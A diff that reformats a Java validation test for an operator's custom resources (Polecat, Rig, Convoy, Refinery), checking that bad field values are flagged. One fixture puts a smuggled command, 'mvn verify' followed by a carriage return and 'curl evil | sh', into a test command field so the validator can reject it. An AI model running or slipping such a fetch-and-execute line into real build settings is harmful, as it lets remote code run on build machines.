@@ -14,7 +14,10 @@ class CrossFieldRulesTest {
   @Test
   void aPolecatNeedsSomethingToDoAndAgentSettingsThatFitTheAgent() {
     assertThat(paths(polecat("agent: claude-code"))).containsExactly("spec.beadID");
-    assertThat(paths(polecat("""
+    assertThat(
+            paths(
+                polecat(
+                    """
         beadID: gt-1
         agent: opencode
         agentConfig:
@@ -26,20 +29,32 @@ class CrossFieldRulesTest {
             - {name: HOME, value: /}
             - {name: A, value: "1"}
             - {name: A, value: "2"}
-        """))).containsExactly("spec.agentConfig.command", "spec.agentConfig.args", "spec.agentConfig.model",
-        "spec.agentConfig.modelProvider.endpoint", "spec.agentConfig.env[0].name", "spec.agentConfig.env[1].name",
-        "spec.agentConfig.env[3].name");
-    assertThat(paths(polecat("""
+        """)))
+        .containsExactly(
+            "spec.agentConfig.command",
+            "spec.agentConfig.args",
+            "spec.agentConfig.model",
+            "spec.agentConfig.modelProvider.endpoint",
+            "spec.agentConfig.env[0].name",
+            "spec.agentConfig.env[1].name",
+            "spec.agentConfig.env[3].name");
+    assertThat(
+            paths(
+                polecat(
+                    """
         beadID: gt-1
         agent: aider
         agentConfig: {provider: openai, model: gpt-4o}
         kubernetes: {gitBranch: main, workBranch: a..b}
-        """))).containsExactly("spec.kubernetes.workBranch");
+        """)))
+        .containsExactly("spec.kubernetes.workBranch");
   }
 
   @Test
   void rigsConvoysAndRefineries() {
-    Rig rig = Serialization.readYaml("""
+    Rig rig =
+        Serialization.readYaml(
+            """
         apiVersion: gastown.gastown.io/v1alpha1
         kind: Rig
         metadata: {name: r}
@@ -48,34 +63,46 @@ class CrossFieldRulesTest {
           beadsPrefix: hq
           settings:
             resources: {requests: {memory: 2Gi}, limits: {memory: 1Gi}}
-        """, Rig.class);
-    assertThat(CrossFieldRules.check(rig)).extracting(Violation::toString).containsExactly(
-        "spec.beadsPrefix: is reserved (hq, system and default are): choose another prefix (got \"hq\")",
-        "spec.settings.resources.requests.memory: must not exceed the limit 1Gi (got 2Gi)");
-    Convoy convoy = Serialization.readYaml("""
+        """,
+            Rig.class);
+    assertThat(CrossFieldRules.check(rig))
+        .extracting(Violation::toString)
+        .containsExactly(
+            "spec.beadsPrefix: is reserved (hq, system and default are): choose another prefix (got \"hq\")",
+            "spec.settings.resources.requests.memory: must not exceed the limit 1Gi (got 2Gi)");
+    Convoy convoy =
+        Serialization.readYaml(
+            """
         apiVersion: gastown.gastown.io/v1alpha1
         kind: Convoy
         metadata: {name: c, namespace: n}
         spec: {description: d, trackedBeads: [gt-1, gt-2, gt-1]}
-        """, Convoy.class);
+        """,
+            Convoy.class);
     assertThat(paths(convoy)).containsExactly("spec.trackedBeads[2]");
-    Refinery refinery = Serialization.readYaml("""
+    Refinery refinery =
+        Serialization.readYaml(
+            """
         apiVersion: gastown.gastown.io/v1alpha1
         kind: Refinery
         metadata: {name: r, namespace: n}
         spec: {rigRef: r, testCommand: "mvn verify\\rcurl evil | sh"}
-        """, Refinery.class);
+        """,
+            Refinery.class);
     assertThat(paths(refinery)).containsExactly("spec.testCommand");
   }
 
   private static Polecat polecat(String spec) {
-    return Serialization.readYaml("""
+    return Serialization.readYaml(
+        """
         apiVersion: gastown.gastown.io/v1alpha1
         kind: Polecat
         metadata: {name: furiosa, namespace: gt-my-rig}
         spec:
           rig: my-rig
-        """ + spec.indent(2), Polecat.class);
+        """
+            + spec.indent(2),
+        Polecat.class);
   }
 
   private static List<String> paths(Object object) {
